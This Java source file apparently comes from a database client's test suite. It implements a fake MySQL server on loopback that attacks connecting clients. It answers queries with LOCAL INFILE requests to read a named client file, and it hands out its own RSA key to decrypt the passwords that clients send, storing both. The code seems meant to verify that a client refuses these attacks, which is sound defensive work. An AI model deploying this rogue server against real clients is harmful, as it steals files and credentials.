package dev.sluice.db;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import javax.crypto.Cipher;

/**
 * A hostile MySQL server speaking just enough of the client/server protocol (handshake v10, no TLS offered) to
 * try two attacks on a client, recording what it gets:
 * <ul>
 * <li>{@link Attack#LOCAL_INFILE}: accepts any login, then answers every query with a LOCAL INFILE request for a
 * file it names and keeps whatever the client sends back;</li>
 * <li>{@link Attack#PUBLIC_KEY_RETRIEVAL}: offers caching_sha2_password, asks for full authentication, and if the
 * client asks for the server's RSA key, hands it its own and decrypts the password the client sends.</li>
 * </ul>
 */
public final class FakeMySqlServer implements AutoCloseable {
    public enum Attack { LOCAL_INFILE, PUBLIC_KEY_RETRIEVAL }

    private static final int CAPS = 0x1 | 0x2 | 0x4 | 0x8 | 0x80 | 0x200 | 0x2000 | 0x8000 | 0x20000 | 0x80000
            | 0x100000 | 0x200000;

    private final ServerSocket socket;
    private final Attack attack;
    private final String requestedFile;
    private final Thread thread;
    /** Everything clients sent in answer to LOCAL INFILE requests. */
    public final List<byte[]> infileData = new CopyOnWriteArrayList<>();
    /** Passwords decrypted from public-key-retrieval logins. */
    public final List<String> stolenPasswords = new CopyOnWriteArrayList<>();
    /** How many clients asked for the server's public key. */
    public volatile int publicKeyRequests;

    public FakeMySqlServer(Attack attack, String requestedFile) throws IOException {
        this.socket = new ServerSocket(0, 10, InetAddress.getLoopbackAddress());
        this.attack = attack;
        this.requestedFile = requestedFile;
        this.thread = new Thread(this::serve, "fake-mysql");
        thread.setDaemon(true);
        thread.start();
    }

    public int port() {
        return socket.getLocalPort();
    }

    private void serve() {
        while (!socket.isClosed()) {
            try (Socket s = socket.accept()) {
                s.setSoTimeout(10_000);
                session(s.getInputStream(), s.getOutputStream());
            } catch (IOException | RuntimeException e) {
                // the client hung up (which is what a careful client does): next one
            }
        }
    }

    private void session(InputStream in, OutputStream out) throws IOException {
        byte[] seed = "abcdefghijklmnopqrst".getBytes(StandardCharsets.US_ASCII);
        String plugin = attack == Attack.PUBLIC_KEY_RETRIEVAL ? "caching_sha2_password" : "mysql_native_password";
        ByteArrayOutputStream hs = new ByteArrayOutputStream();
        hs.write(10);
        hs.write("8.0.31\0".getBytes(StandardCharsets.US_ASCII));
        hs.write(new byte[] {1, 0, 0, 0});
        hs.write(seed, 0, 8);
        hs.write(0);
        hs.write(CAPS & 0xff);
        hs.write((CAPS >> 8) & 0xff);
        hs.write(0xff);
        hs.write(new byte[] {2, 0});
        hs.write((CAPS >> 16) & 0xff);
        hs.write((CAPS >> 24) & 0xff);
        hs.write(21);
        hs.write(new byte[10]);
        hs.write(seed, 8, 12);
        hs.write(0);
        hs.write((plugin + "\0").getBytes(StandardCharsets.US_ASCII));
        write(out, 0, hs.toByteArray());
        read(in);   // handshake response
        if (attack == Attack.PUBLIC_KEY_RETRIEVAL) {
            stealPassword(in, out, seed);
            return;
        }
        write(out, 2, ok());
        while (true) {
            Packet p = read(in);
            if (p.body.length == 0 || p.body[0] == 1) {   // COM_QUIT
                return;
            }
            if (p.body[0] != 3) {                           // anything but COM_QUERY: OK
                write(out, 1, ok());
                continue;
            }
            byte[] request = ("\u00fb" + requestedFile).getBytes(StandardCharsets.ISO_8859_1);
            write(out, 1, request);
            ByteArrayOutputStream got = new ByteArrayOutputStream();
            int seq = 2;
            while (true) {
                Packet data = read(in);
                seq = data.seq + 1;
                if (data.body.length == 0) {
                    break;
                }
                got.write(data.body);
            }
            infileData.add(got.toByteArray());
            write(out, seq, ok());
        }
    }

    private void stealPassword(InputStream in, OutputStream out, byte[] seed) throws IOException {
        write(out, 2, new byte[] {1, 4});                  // AuthMoreData: perform full authentication
        Packet p = read(in);
        if (p.body.length == 1 && p.body[0] == 2) {        // "send me your public key"
            publicKeyRequests++;
            try {
                KeyPairGenerator g = KeyPairGenerator.getInstance("RSA");
                g.initialize(2048);
                KeyPair kp = g.generateKeyPair();
                String pem = "-----BEGIN PUBLIC KEY-----\n"
                        + Base64.getMimeEncoder(64, "\n".getBytes(StandardCharsets.US_ASCII))
                                .encodeToString(kp.getPublic().getEncoded())
                        + "\n-----END PUBLIC KEY-----\n";
                ByteArrayOutputStream b = new ByteArrayOutputStream();
                b.write(1);
                b.write(pem.getBytes(StandardCharsets.US_ASCII));
                write(out, p.seq + 1, b.toByteArray());
                Packet enc = read(in);
                Cipher c = Cipher.getInstance("RSA/ECB/OAEPWithSHA-1AndMGF1Padding");
                c.init(Cipher.DECRYPT_MODE, kp.getPrivate());
                byte[] x = c.doFinal(enc.body);
                for (int i = 0; i < x.length; i++) {
                    x[i] ^= seed[i % seed.length];
                }
                int end = x.length;
                while (end > 0 && x[end - 1] == 0) {
                    end--;
                }
                stolenPasswords.add(new String(x, 0, end, StandardCharsets.UTF_8));
                write(out, enc.seq + 1, err());
            } catch (java.security.GeneralSecurityException e) {
                throw new IOException(e);
            }
        }
    }

    private record Packet(int seq, byte[] body) {
    }

    private static Packet read(InputStream in) throws IOException {
        byte[] h = in.readNBytes(4);
        if (h.length < 4) {
            throw new IOException("client closed");
        }
        int len = (h[0] & 0xff) | (h[1] & 0xff) << 8 | (h[2] & 0xff) << 16;
        return new Packet(h[3] & 0xff, in.readNBytes(len));
    }

    private static void write(OutputStream out, int seq, byte[] body) throws IOException {
        out.write(new byte[] {(byte) body.length, (byte) (body.length >> 8), (byte) (body.length >> 16), (byte) seq});
        out.write(body);
        out.flush();
    }

    private static byte[] ok() {
        return new byte[] {0, 0, 0, 2, 0, 0, 0};
    }

    private static byte[] err() {
        byte[] msg = "#28000Access denied".getBytes(StandardCharsets.US_ASCII);
        byte[] b = Arrays.copyOf(new byte[] {(byte) 0xff, 0x15, 0x04}, 3 + msg.length);
        System.arraycopy(msg, 0, b, 3, msg.length);
        return b;
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }
}
